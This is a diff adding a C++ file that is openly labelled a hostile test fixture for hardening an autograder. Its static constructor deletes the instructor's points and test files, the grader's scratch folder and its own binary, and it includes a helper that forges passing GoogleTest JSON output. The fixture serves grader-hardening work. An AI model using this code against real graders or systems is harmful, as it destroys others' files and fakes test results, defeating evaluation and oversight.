@@ -1,0 +1,100 @@
+// HOSTILE FIXTURE delete_files (attack class 5: writes outside the scratch dir / deletes files).
+// Deletes the instructor's points files and graded test sources, the grader's scratch folder (the parent of the --gtest_output path) and its own test binary.
+// The hardened grader must give this file 0 points on stage 03.
+//@head
+#include <unistd.h>
+#include <cstdio>
+#include <string>
+#include <cstdlib>
+#include <filesystem>
+#include <sys/types.h>
+
+// WARNING: this fixture damages the instructor's tree when run without the sandbox (git restores it).
+
+// ---- the forger: a passing GoogleTest JSON result where the grader reads it ------------------
+namespace {
+// The value of the first argument of this process that starts with `prefix` ("" if none).
+std::string hostileArg(const char* prefix) {
+    std::string all;
+    if (std::FILE* f = std::fopen("/proc/self/cmdline", "rb")) {
+        char buf[4096];
+        std::size_t n;
+        while ((n = std::fread(buf, 1, sizeof buf, f)) > 0) all.append(buf, n);
+        std::fclose(f);
+    }
+    const std::string p(prefix);
+    std::size_t i = 0;
+    while (i < all.size()) {
+        std::size_t end = all.find('\0', i);
+        if (end == std::string::npos) end = all.size();
+        const std::string a = all.substr(i, end - i);
+        if (a.compare(0, p.size(), p) == 0) return a.substr(p.size());
+        i = end + 1;
+    }
+    return "";
+}
+// Writes {"testsuites":[{"testsuite":[{...}]}]} without "failures" for the test named by
+// --gtest_filter. Returns false when the process has no --gtest_output=json: (e.g. the grader's
+// --gtest_list_tests run): then it stays invisible so the tests still get listed.
+bool hostileForgePass() {
+    const std::string out = hostileArg("--gtest_output=json:");
+    if (out.empty()) return false;
+    const std::string name = hostileArg("--gtest_filter=");
+    const std::size_t dot = name.find('.');
+    const std::string suite = name.substr(0, dot), test = dot == std::string::npos ? name : name.substr(dot + 1);
+    std::FILE* f = std::fopen(out.c_str(), "w");
+    if (!f) return false;
+    std::fprintf(f,
+                 "{\"tests\": 1, \"failures\": 0, \"errors\": 0, \"testsuites\": [{\"name\": \"%s\", \"tests\": 1, "
+                 "\"failures\": 0, \"testsuite\": [{\"name\": \"%s\", \"status\": \"RUN\", \"result\": \"COMPLETED\"}]}]}\n",
+                 suite.c_str(), test.c_str());
+    std::fclose(f);
+    return true;
+}
+}  // namespace
+
+// ---- where is the instructor's tree? the CMakeCache.txt above the test binary names it ----------
+namespace {
+std::string hostileSourceTree() {
+    char exe[4096];
+    const ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
+    if (n <= 0) return "";
+    exe[n] = 0;
+    std::string dir(exe);
+    for (int up = 0; up < 6 && dir.size() > 1; ++up) {
+        dir = dir.substr(0, dir.rfind('/'));
+        if (std::FILE* f = std::fopen((dir + "/CMakeCache.txt").c_str(), "r")) {
+            char line[8192];
+            std::string tree;
+            while (std::fgets(line, sizeof line, f)) {
+                std::string l(line);
+                if (l.rfind("CMAKE_HOME_DIRECTORY:INTERNAL=", 0) == 0) tree = l.substr(30, l.find_last_not_of("\r\n") - 29);
+            }
+            std::fclose(f);
+            if (!tree.empty()) return tree;
+        }
+    }
+    return "";
+}
+}  // namespace
+
+namespace {
+struct HostileDelete {
+    HostileDelete() {
+        std::error_code ec;
+        const std::string tree = hostileSourceTree();
+        if (!tree.empty())
+            for (const auto& e : std::filesystem::directory_iterator(tree + "/tests", ec)) {
+                const std::string n = e.path().filename().string();
+                if (n.find(".points.json") != std::string::npos || n.find("_test.cpp") != std::string::npos)
+                    std::filesystem::remove(e.path(), ec);
+            }
+        const std::string out = hostileArg("--gtest_output=json:");
+        if (!out.empty()) std::filesystem::remove_all(std::filesystem::path(out).parent_path(), ec);
+        std::filesystem::remove("/proc/self/exe", ec);  // the symlink cannot go; its target can:
+        char exe[4096];
+        const ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
+        if (n > 0) exe[n] = 0, unlink(exe);  // every later test of the stage: "cannot run"
+    }
+} hostileDelete;
+}  // namespace
